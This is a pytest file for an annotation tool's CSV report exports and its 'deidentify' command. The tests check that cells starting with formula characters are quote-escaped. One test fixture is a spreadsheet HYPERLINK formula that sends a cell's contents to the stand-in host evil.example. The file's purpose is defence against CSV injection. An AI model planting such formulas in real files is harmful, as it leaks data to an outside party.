"""Report downloads and the ``deidentify`` command write no live spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json

from django.core.management import call_command

from annotator.services.reports import agreement_csv, circularity_csv, detectors_csv

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_report_csvs_quote_formulas_and_keep_numbers():
    fig = {"value": -0.5, "ci_low": -0.75, "ci_high": 0.25}
    detectors = detectors_csv({"detectors": [{
        "run": 3, "name": EVIL, "version": "-2+3",
        "rows": [{"level": "span_exact", "label": "@NAME", "n_pred": 2, "n_gold": 1,
                  "precision": fig, "recall": fig, "f1": fig, "f2": fig}]}]})
    row = _rows(detectors)[0]
    assert row["detector"] == "'" + EVIL and row["version"] == "'-2+3" and row["label"] == "'@NAME"
    assert row["precision"] == "-0.5" and row["run"] == "3"
    agreement = _rows(agreement_csv({"agreement": {"figures": [
        {"metric": "cohen_kappa", "pair": "+a~b", "group": "=1+1", "value": -0.1, "n": 4}]}}))[0]
    assert agreement["pair"] == "'+a~b" and agreement["group"] == "'=1+1" and agreement["value"] == "-0.1"
    circ = _rows(circularity_csv({"rows": [{"figure": "\tdelta", "value": -0.2}]}))[0]
    assert circ["figure"] == "'\tdelta" and circ["value"] == "-0.2"


def test_deidentify_command_csv_release(tmp_path):
    src = tmp_path / "formula.csv"
    with open(src, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["dialogue_id", "seq", "speaker", "text"])
        w.writerows([["d1", 0, "Tutor", EVIL], ["d1", 1, "Student", "=2+5"], ["d1", 2, "Student", "-2+3"]])
    call_command("deidentify", str(src), "--out", str(tmp_path / "rel.csv"), "--key", "test-key-123", stdout=io.StringIO())
    with open(tmp_path / "rel.csv", newline="", encoding="utf-8") as fh:
        texts = [r["text"] for r in csv.DictReader(fh)]
    assert texts == ["'" + EVIL, "'=2+5", "'-2+3"]
    call_command("deidentify", str(src), "--out", str(tmp_path / "rel.jsonl"), "--key", "test-key-123", stdout=io.StringIO())
    obj = json.loads((tmp_path / "rel.jsonl").read_text(encoding="utf-8"))
    assert [m["text"] for m in obj["messages"]] == [EVIL, "=2+5", "-2+3"]
